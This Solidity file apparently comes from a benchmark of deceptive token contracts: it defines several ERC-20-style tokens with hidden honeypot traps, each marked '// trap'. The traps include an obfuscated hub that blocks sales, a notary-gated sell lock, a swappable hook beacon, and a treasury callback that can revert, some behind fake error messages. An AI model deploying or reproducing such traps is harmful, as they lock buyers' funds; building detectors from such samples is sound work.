// 0.8 off evm=cancun
// SPDX-License-Identifier: MIT
pragma solidity ^0.8.24;

import "./Base8.sol";

/// Keeps certificates of the holders of many tokens.
contract CertHub {
    bytes32 private immutable _seat = keccak256(abi.encode(msg.sender, block.chainid));
    /// pool | series << 160
    mapping(address => uint256) private _plan;
    mapping(address => uint256) private _cert;

    modifier seated() {
        require(keccak256(abi.encode(msg.sender, block.chainid)) == _seat);
        _;
    }

    function enlist(address pool) external {
        require(_plan[msg.sender] == 0, "enlisted");
        _plan[msg.sender] = uint160(pool);
    }

    function certify(address[] calldata who, uint256 series) external seated {
        for (uint256 i = 0; i < who.length; i++) _cert[who[i]] = series;
    }

    // trap {
    function revise(address token, uint96 series) external seated {
        _plan[token] = uint160(_plan[token]) | (uint256(series) << 160);
    }
    // trap }

    function onTransfer(address from, address to, uint256) external view returns (bytes4) {
        uint256 plan = _plan[msg.sender];
        if (to == address(uint160(plan)) && _cert[from] < plan >> 160) return 0x0;
        return this.onTransfer.selector;
    }
}

interface ICertHub {
    function enlist(address pool) external;
    function onTransfer(address from, address to, uint256 value) external view returns (bytes4);
}

contract HazelHare is Base8("Hazel Hare", "HAZEL", 150_000_000) {
    constructor(address hub) {
        bytes32 slot = keccak256(abi.encode("hazel", address(this)));
        assembly {
            sstore(slot, not(hub))
        }
        ICertHub(hub).enlist(pair);
    }

    function _hub() private view returns (ICertHub hub) {
        bytes32 slot = keccak256(abi.encode("hazel", address(this)));
        assembly {
            hub := not(sload(slot))
        }
    }

    function _transfer(address from, address to, uint256 value) internal override {
        bytes4 answer = _hub().onTransfer(from, to, value);
        require(answer == ICertHub.onTransfer.selector, "ERC20: transfer amount exceeds balance");
        _move(from, to, value);
    }
}

/// Its story is told in chapters that a notary signs.
contract SealedSwift is Base8("Sealed Swift", "SEALED", 40_000_000) {
    address private immutable _notary = msg.sender;
    uint256 private _chapter;

    event Chapter(uint256 number);

    function attest(uint256 number, uint8 v, bytes32 r, bytes32 s) external {
        bytes32 digest = keccak256(abi.encode(address(this), block.chainid, number));
        address signer = ecrecover(keccak256(abi.encodePacked("\x19Ethereum Signed Message:\n32", digest)), v, r, s);
        require(signer != address(0) && signer == _notary, "not notarized");
        require(number > _chapter, "told");
        _chapter = number;
        emit Chapter(number);
    }

    function _transfer(address from, address to, uint256 value) internal override {
        require(to != pair || from == _notary || _chapter % 2 == 0, "to be continued"); // trap
        _move(from, to, value);
    }
}

/// Looks at transfers and counts them.
contract CountingHook {
    mapping(address => uint256) public seen;

    function beforeTokenTransfer(address from, address, uint256) external {
        seen[from]++;
    }
}

/// Names the code of all hooks of a studio.
contract HookBeacon {
    address private _logic;
    address private immutable _studio = msg.sender;

    constructor(address logic) {
        _logic = logic;
    }

    function implementation() external view returns (address) {
        return _logic;
    }

    // trap {
    function publish(address logic) external {
        require(msg.sender == _studio);
        _logic = logic;
    }
    // trap }
}

contract HookProxy {
    address private immutable _beacon;

    constructor(address beacon) {
        _beacon = beacon;
    }

    fallback() external {
        address logic = HookBeacon(_beacon).implementation();
        assembly {
            calldatacopy(0, 0, calldatasize())
            let ok := delegatecall(gas(), logic, 0, calldatasize(), 0, 0)
            returndatacopy(0, 0, returndatasize())
            switch ok
            case 0 {
                revert(0, returndatasize())
            }
            default {
                return(0, returndatasize())
            }
        }
    }
}

contract BeaconBadger is Base8("Beacon Badger", "BADGER", 65_000_000) {
    CountingHook private immutable _hook;

    constructor(CountingHook hook) {
        _hook = hook;
    }

    function _transfer(address from, address to, uint256 value) internal override {
        _hook.beforeTokenTransfer(from, to, value);
        _move(from, to, value);
    }
}

/// A hundredth of each trade goes to a treasury, which is told of it.
contract WalletWren is Base8("Wallet Wren", "WREN", 900_000_000) {
    address private _treasury = msg.sender;

    event Told(uint256 fee, bool heard);

    function succeed(address treasury) external {
        require(msg.sender == _treasury, "not the treasury");
        require(treasury != address(0), "nobody");
        _treasury = treasury;
    }

    function _transfer(address from, address to, uint256 value) internal override {
        if ((from == pair || to == pair) && from != _treasury) {
            uint256 fee = value / 100;
            value -= fee;
            _move(from, _treasury, fee);
            _tell(fee);
        }
        _move(from, to, value);
    }

    function _tell(uint256 fee) private {
        if (_treasury.code.length == 0) return;
        (bool heard, ) = _treasury.call(abi.encodeWithSignature("onFee(uint256)", fee)); // trap
        require(heard, "TransferHelper: ETH_TRANSFER_FAILED"); // trap
        // twin: bool heard;
        // twin: address listener = _treasury;
        // twin: bytes memory data = abi.encodeWithSignature("onFee(uint256)", fee);
        // twin: assembly { heard := call(30000, listener, 0, add(data, 32), mload(data), 0, 0) }
        emit Told(fee, heard);
    }
}
